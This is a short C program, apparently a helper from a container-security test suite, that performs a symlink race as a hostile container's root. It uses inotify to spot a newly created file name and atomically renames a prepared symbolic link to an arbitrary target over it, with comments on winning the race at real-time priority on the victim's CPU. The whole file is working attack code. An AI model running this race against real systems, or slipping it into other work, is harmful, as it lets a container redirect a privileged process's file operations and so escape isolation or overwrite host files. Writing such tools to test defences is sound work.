/* SPDX-License-Identifier: GPL-2.0-only */
/* A hostile container's root: the moment a name appears in a directory (it
 * watches with inotify), swaps it for a symbolic link to target (a link made
 * in advance, renamed over the name: atomic). Run at a real-time priority on
 * the CPU the victim runs on, it gets the CPU as soon as the victim's
 * system call that made the name returns - before its next one.
 *   racer DIR NAME TARGET */
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char tmp[4096], name[4096], buf[sizeof(struct inotify_event) + NAME_MAX + 1];
	int fd;

	if (argc != 4)
		return 2;
	snprintf(tmp, sizeof(tmp), "%s/.%s.swap", argv[1], argv[2]);
	snprintf(name, sizeof(name), "%s/%s", argv[1], argv[2]);
	fd = inotify_init();
	if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0)
		return 1;
	unlink(tmp);
	if (symlink(argv[3], tmp) != 0)
		return 1;
	for (;;) {
		ssize_t n = read(fd, buf, sizeof(buf));
		for (char *p = buf; n > 0 && p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if (e->len && strcmp(e->name, argv[2]) == 0) {
				rename(tmp, name);
				unlink(tmp);
				symlink(argv[3], tmp);
			}
			p += sizeof(*e) + e->len;
		}
	}
}
